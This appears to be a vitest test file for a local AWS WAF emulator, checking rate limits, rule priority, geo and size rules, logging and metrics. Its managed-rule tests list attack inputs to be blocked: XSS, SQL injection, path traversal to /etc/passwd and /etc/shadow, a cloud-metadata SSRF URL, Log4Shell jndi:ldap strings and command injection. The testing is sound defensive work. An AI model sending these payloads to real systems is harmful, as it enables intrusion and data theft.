/** AWS WAF in front of a stage: which requests its rules block, and what they leave in logs, metrics and samples. */
import { describe, expect, it } from 'vitest';
import type { Rule, Statement } from '../../../src/local/models/wafv2.ts';
import { stageArn, type WebAcl } from '../../../src/local/state/firewall.ts';
import { ACCOUNT, API_ID, REGION, startGateway } from './gateway-rig.ts';

const ARN = `arn:aws:wafv2:${REGION}:${ACCOUNT}:regional/webacl/shop/1`;
const SET = `arn:aws:wafv2:${REGION}:${ACCOUNT}:regional/ipset/shop/1`;
const visible = (MetricName: string) => ({
  MetricName,
  SampledRequestsEnabled: true,
  CloudWatchMetricsEnabled: true,
});

const rule = (Name: string, Statement: Statement, more: Partial<Rule> = { Action: { Block: {} } }): Rule => ({
  Name,
  Priority: 1,
  Statement,
  VisibilityConfig: visible(Name),
  ...more,
});
const group = (name: string): Rule =>
  rule(
    name,
    { ManagedRuleGroupStatement: { VendorName: 'AWS', Name: `AWSManagedRules${name}` } },
    { OverrideAction: { None: {} } },
  );
const limit = (Limit: number, EvaluationWindowSec = 300) =>
  rule('rate-limit', { RateBasedStatement: { Limit, EvaluationWindowSec, AggregateKeyType: 'IP' } });

async function protectedBy(...rules: Rule[]) {
  const rig = await startGateway();
  rig.functions.set('f', () => ({ statusCode: 200, body: '{}' }));
  rig.deploy({
    paths: { '/items': { GET: {}, POST: {} } },
    stage: {
      accessLogSettings: {
        destinationArn: `arn:aws:logs:${REGION}:${ACCOUNT}:log-group:/aws/apigateway/items-dev`,
        format: '$context.error.responseType $context.wafResponseCode $context.webaclArn $context.waf.status',
      },
    },
  });
  const acl: WebAcl = {
    ...{ name: 'shop', id: '1', arn: ARN, defaultAction: { Allow: {} }, rules, visibility: visible('shop') },
    ...{ capacity: 0, lockToken: '1', tags: [] },
  };
  rig.put('wafv2.webAcls', ARN, acl);
  rig.put('wafv2.associations', stageArn({ account: ACCOUNT, region: REGION }, API_ID, 'dev'), ARN);
  return {
    ...rig,
    status: async (line: string, init?: Parameters<typeof rig.call>[1]) => (await rig.call(line, init)).status,
  };
}

const browser = { 'User-Agent': 'test' };

describe('a blocked request', () => {
  it('gets a 403 of the gateway, and a line in the access log that says so', async () => {
    const rig = await protectedBy(limit(10));
    for (let sent = 0; sent < 10; sent += 1) expect(await rig.status('GET /dev/items')).toBe(200);
    const { status, text, headers } = await rig.call('GET /dev/items');
    expect([status, text, headers['x-amzn-errortype']]).toEqual([403, '{"message":"Forbidden"}', 'ForbiddenException']);
    const lines = rig.logged.flatMap(({ events }) => events.map(({ message }) => message));
    expect(lines[0]).toBe(`- WAF_ALLOW ${ARN} 200`);
    expect(lines.at(-1)).toBe(`WAF_FILTERED WAF_BLOCK ${ARN} 200`);
  });

  it('is blocked before its path is looked for, and counts in the metrics of the rule', async () => {
    const rig = await protectedBy(group('SQLiRuleSet'));
    expect((await rig.call("GET /dev/nowhere?id=1'%20or%20'1'='1")).json).toEqual({ message: 'Forbidden' });
    const counted = rig.metrics.filter(({ namespace }) => namespace === 'AWS/WAFV2');
    expect(counted.map(({ name, dimensions }) => [name, dimensions])).toEqual([
      ['BlockedRequests', { WebACL: 'shop', Region: REGION, Rule: 'SQLiRuleSet' }],
      ['BlockedRequests', { WebACL: 'shop', Region: REGION, Rule: 'ALL' }],
    ]);
    expect(
      rig.cloud.collection({ account: ACCOUNT, region: REGION }, 'wafv2.samples').get(`${ARN} SQLiRuleSet`),
    ).toEqual([
      expect.objectContaining({
        request: expect.objectContaining({
          Action: 'BLOCK',
          RuleNameWithinRuleGroup: 'AWS#AWSManagedRulesSQLiRuleSet#SQLi_QUERYARGUMENTS',
          Request: expect.objectContaining({ ClientIP: '127.0.0.1', URI: '/dev/nowhere', Method: 'GET' }),
        }),
      }),
    ]);
  });
});

describe('a rule', () => {
  it('about a rate lets requests pass again when the window is over', async () => {
    const rig = await protectedBy(limit(10, 60));
    for (let sent = 0; sent < 11; sent += 1) await rig.call('GET /dev/items');
    expect(await rig.status('GET /dev/items')).toBe(403);
    rig.advance(61_000);
    expect(await rig.status('GET /dev/items')).toBe(200);
  });

  it('that counts lets the request go on to the next rule', async () => {
    const counting = { ...group('SQLiRuleSet'), Priority: 0, OverrideAction: { Count: {} } };
    const rig = await protectedBy(limit(10), counting);
    expect(await rig.status('GET /dev/items?id=1;drop%20table%20users')).toBe(200);
    const counted = rig.metrics.filter(({ name }) => /edRequests$/.test(name));
    expect(counted.map(({ name, dimensions }) => `${name} ${dimensions.Rule}`)).toEqual([
      'CountedRequests SQLiRuleSet',
      'AllowedRequests shop',
      'AllowedRequests ALL',
      'CountedRequests ALL',
    ]);
  });

  it('with a lower priority ends the evaluation first', async () => {
    const geo = rule('geo', { GeoMatchStatement: { CountryCodes: ['DE'] } }, { Priority: 9, Action: { Block: {} } });
    const allow = rule('ips', { IPSetReferenceStatement: { ARN: SET } }, { Priority: 2, Action: { Allow: {} } });
    const rig = await protectedBy(geo, allow);
    const from = { headers: { 'X-Apikit-Country': 'DE' } };
    expect(await rig.status('GET /dev/items', from)).toBe(403);
    const set = (addresses: string[]) => rig.put('wafv2.ipSets', SET, { addresses });
    set(['127.0.0.0/8']);
    expect(await rig.status('GET /dev/items', from)).toBe(200);
    set(['10.0.0.0/8', '2001:db8::/32']);
    expect(await rig.status('GET /dev/items', from)).toBe(403);
  });

  it('about countries does not apply to a request without a country, negated or not', async () => {
    const others = { NotStatement: { Statement: { GeoMatchStatement: { CountryCodes: ['DE' as const] } } } };
    const rig = await protectedBy(rule('geo', others));
    const from = (country: string) => rig.status('GET /dev/items', { headers: { 'X-Apikit-Country': country } });
    expect([await from('DE'), await from('FR'), await rig.status('GET /dev/items')]).toEqual([200, 403, 200]);
  });

  it('about a size counts the bytes of the whole body', async () => {
    const rig = await protectedBy(group('CommonRuleSet'));
    const post = (body: string) => rig.status('POST /dev/items', { headers: browser, body });
    expect(await post('x'.repeat(8_192))).toBe(200);
    expect(await post('é'.repeat(4_097))).toBe(403);
  });
});

describe('the managed rules', () => {
  const BLOCKED: [group: string, line: string, body?: string][] = [
    ['CommonRuleSet', 'GET /dev/items?q=%3Cscript%3Ealert(1)%3C/script%3E'],
    ['CommonRuleSet', 'POST /dev/items', '{"name":"<img src=x onerror=alert(1)>"}'],
    ['CommonRuleSet', 'GET /dev/items?q=%26lt;svg/onload=alert(1)%26gt;'],
    ['CommonRuleSet', 'GET /dev/items?file=../../etc/passwd'],
    ['CommonRuleSet', 'POST /dev/items', '{"url":"http://169.254.169.254/latest/meta-data"}'],
    ['SQLiRuleSet', 'GET /dev/items?id=1%20UNION%20SELECT%20name%20FROM%20users'],
    ['SQLiRuleSet', 'GET /dev/items?id=1%20or%201=1'],
    ['SQLiRuleSet', 'POST /dev/items', `{"user":"admin'--","password":"x"}`],
    ['SQLiRuleSet', 'GET /dev/items?id=1;WAITFOR%20DELAY%20%270:0:5%27'],
    ['KnownBadInputsRuleSet', 'GET /dev/items?x=$%7Bjndi:ldap://evil/a%7D'],
    ['KnownBadInputsRuleSet', 'POST /dev/items', ['$', '{$', '{lower:j}ndi:ldap://evil/a}'].join('')],
    ['LinuxRuleSet', 'GET /dev/items?f=/etc/shadow'],
    ['UnixRuleSet', 'GET /dev/items?f=a;cat%20/tmp/x'],
  ];
  it.each(BLOCKED)('%s block %s %s', async (name, line, body) => {
    const rig = await protectedBy(group(name));
    expect(await rig.status(line, { headers: browser, ...(body && { body }) })).toBe(403);
  });

  it('let ordinary requests pass', async () => {
    const all = ['CommonRuleSet', 'SQLiRuleSet', 'KnownBadInputsRuleSet', 'LinuxRuleSet', 'UnixRuleSet'];
    const rig = await protectedBy(...all.map((name, Priority) => ({ ...group(name), Priority })));
    const bodies = [
      JSON.stringify({
        name: "O'Neil & Sons",
        color: '#fff',
        note: 'select the best or the union of both; drop by soon',
      }),
      JSON.stringify({ text: 'He said "yes" or "no", and 3 < 5.', html: '<b>bold</b>', tag: "it's #1" }),
      'a=1&b=2&when=2026-11-30T10:00:00Z',
    ];
    for (const body of bodies) expect(await rig.status('POST /dev/items', { headers: browser, body })).toBe(200);
    expect(await rig.status('GET /dev/items?q=shoes%20and%20socks&sort=-price', { headers: browser })).toBe(200);
    expect(await rig.status('GET /dev/items')).toBe(403);
  });
});
